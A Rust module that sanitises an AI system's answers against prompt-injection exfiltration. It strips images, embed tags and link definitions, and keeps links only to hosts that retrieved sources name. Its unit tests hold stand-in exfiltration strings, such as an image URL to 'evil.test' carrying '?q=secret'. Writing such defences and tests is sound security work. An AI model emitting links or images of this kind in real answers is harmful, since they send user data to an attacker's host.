//! Removes from an answer what a hostile document could use to send text elsewhere: images, which
//! load by themselves, and links to hosts that no source names.

use super::Source;

/// `answer` without images, and with links kept only where a source names their host.
pub(super) fn sanitize(answer: &str, sources: &[Source]) -> String {
    let without_html = drop_html_images(answer);
    let without_definitions = drop_link_definitions(&without_html);
    let mut text = String::with_capacity(without_definitions.len());
    let mut rest = without_definitions.as_str();
    while let Some(open) = rest.find('[') {
        let (before, from) = rest.split_at(open);
        let Some(link) = Link::parse(from) else {
            text.push_str(before);
            text.push('[');
            rest = from.get(1..).unwrap_or_default();
            continue;
        };
        let image = before.ends_with('!');
        text.push_str(if image {
            before.strip_suffix('!').unwrap_or(before)
        } else {
            before
        });
        let kept = from.get(..link.bytes).unwrap_or_default();
        if !image && names_host(sources, link.target) {
            text.push_str(kept)
        } else {
            text.push_str(link.label)
        }
        rest = from.get(link.bytes..).unwrap_or_default();
    }
    text.push_str(rest);
    text
}

/// An inline link at the beginning of a text: `[label](target)`.
struct Link<'a> {
    label: &'a str,
    target: &'a str,
    bytes: usize,
}

impl<'a> Link<'a> {
    fn parse(text: &'a str) -> Option<Self> {
        let close = text.find("](")?;
        let label = text.get(1..close)?;
        let after = text.get(close + 2..)?;
        let end = after.find(')')?;
        let target = after.get(..end)?;
        let plain = !label.contains(['[', '\n']) && !target.contains('\n');
        plain.then_some(Self {
            label,
            target,
            bytes: close + 2 + end + 1,
        })
    }
}

fn names_host(sources: &[Source], target: &str) -> bool {
    let target = target.trim().trim_start_matches('<');
    let Some((scheme, rest)) = target.split_once("//") else {
        // Without a host it is relative, unless its scheme runs code or contains data.
        return !target.to_lowercase().starts_with("javascript:")
            && !target.to_lowercase().starts_with("data:");
    };
    let web = matches!(scheme.to_lowercase().as_str(), "http:" | "https:" | "");
    let authority = rest
        .split(['/', '?', '#', ' ', '>'])
        .next()
        .unwrap_or_default();
    let host = authority
        .rsplit('@')
        .next()
        .unwrap_or_default()
        .to_lowercase();
    web && !host.is_empty()
        && sources.iter().any(|source| {
            source.text.to_lowercase().contains(&host) || source.uri.to_lowercase().contains(&host)
        })
}

/// Reference definitions (`[name]: https://…`) are links as well; all are dropped.
fn drop_link_definitions(text: &str) -> String {
    let is_definition = |line: &str| {
        let line = line.trim_start();
        line.starts_with('[')
            && line
                .split_once("]:")
                .is_some_and(|(_, target)| target.contains("//"))
    };
    if !text.lines().any(is_definition) {
        return text.to_owned();
    }
    text.lines()
        .filter(|line| !is_definition(line))
        .collect::<Vec<_>>()
        .join("\n")
}

fn drop_html_images(text: &str) -> String {
    let mut kept = String::with_capacity(text.len());
    let mut rest = text;
    loop {
        let lower = rest.to_ascii_lowercase();
        let found = [
            "<img", "<iframe", "<script", "<object", "<embed", "<video", "<audio", "<svg",
        ]
        .iter()
        .filter_map(|tag| lower.find(tag))
        .min();
        let Some(at) = found else { break };
        let (before, from) = rest.split_at(at);
        kept.push_str(before);
        rest = from
            .find('>')
            .and_then(|end| from.get(end + 1..))
            .unwrap_or_default();
    }
    kept.push_str(rest);
    kept
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn images_and_foreign_links_lose_their_address() {
        let cleaned = sanitize(
            "See ![x](http://evil.test/?q=secret) and [docs](https://evil.test/a) or [1] <img src=//evil.test>.",
            &[],
        );
        assert_eq!(cleaned, "See x and docs or [1] .");
    }

    #[test]
    fn reference_definitions_are_dropped() {
        assert_eq!(
            sanitize("Read [this][r] [1]\n[r]: https://evil.test/x", &[]),
            "Read [this][r] [1]"
        );
    }
}
